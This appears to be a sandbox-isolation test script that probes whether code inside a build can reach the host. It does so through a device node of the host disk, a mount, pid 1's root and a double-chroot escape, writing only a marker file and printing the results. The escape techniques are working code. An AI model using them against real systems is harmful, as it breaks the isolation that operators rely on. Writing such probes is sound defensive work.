"""Try to reach the host from inside the build: print what each way got, one line each.

argv: the host file to overwrite, the host disk as ``MAJOR:MINOR`` and its name in the host's /dev (``vda``).
"""
import ctypes
import os
import stat
import sys

MARKER, DISK, DISK_NAME = sys.argv[1], sys.argv[2], sys.argv[3]
MAJOR, MINOR = (int(part) for part in DISK.split(":"))
NODE = "/tmp/userns-escape-disk"
MOUNTPOINT = "/tmp/userns-escape-mnt"
# ext4/ext3/ext2: the superblock starts at byte 1024, its magic 0xEF53 (little-endian) at offset 56 in it.
EXT_MAGIC_AT, EXT_MAGIC = 1024 + 56, b"\x53\xef"


def write(path):
    try:
        with open(path, "w", encoding="ascii") as handle:
            handle.write("escaped\n")
        return "wrote"
    except OSError as exc:
        return f"errno{exc.errno}"


def read_disk(path):
    """Read the disk's first blocks: ``read ext`` when they hold an ext file system's superblock."""
    try:
        with open(path, "rb") as handle:
            head = handle.read(4096)
    except OSError as exc:
        return f"errno{exc.errno}"
    return "read ext" if head[EXT_MAGIC_AT:EXT_MAGIC_AT + 2] == EXT_MAGIC else f"read {len(head)} bytes"


def mount(source, target):
    """mount(2) of the host disk: ``mounted`` (and detached again at once) or the errno that refused it."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(source.encode(), target.encode(), b"ext4", 1, None) == 0:  # MS_RDONLY
        libc.umount2(target.encode(), 2)  # MNT_DETACH
        return "mounted"
    return f"errno{ctypes.get_errno()}"


# Inside the build's root: a device node of the host's disk, its raw bytes, a mount of it.
try:
    os.mknod(NODE, stat.S_IFBLK | 0o600, os.makedev(MAJOR, MINOR))
    print("mknod made")
    print("nodedisk", read_disk(NODE))
except OSError as exc:
    print("mknod", f"errno{exc.errno}")
os.makedirs(MOUNTPOINT, exist_ok=True)
print("mount", mount(NODE, MOUNTPOINT))
# The host's own node and file through pid 1's root.
print("proc1disk", read_disk(f"/proc/1/root/dev/{DISK_NAME}"))
print("proc1root", write("/proc/1/root" + MARKER))
# A second chroot: chroot into a subdirectory while the working directory stays above it, walk up past the
# build's root, and chroot there (the host's / when the build's chroot is the only fence). Then the host's
# file and the host's disk node.
try:
    os.makedirs("/tmp/userns-escape", exist_ok=True)
    os.chdir("/")
    os.chroot("/tmp/userns-escape")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("chroot", write(MARKER))
    print("hostdisk", read_disk(f"/dev/{DISK_NAME}"))
except OSError as exc:
    print("chroot", f"errno{exc.errno}")
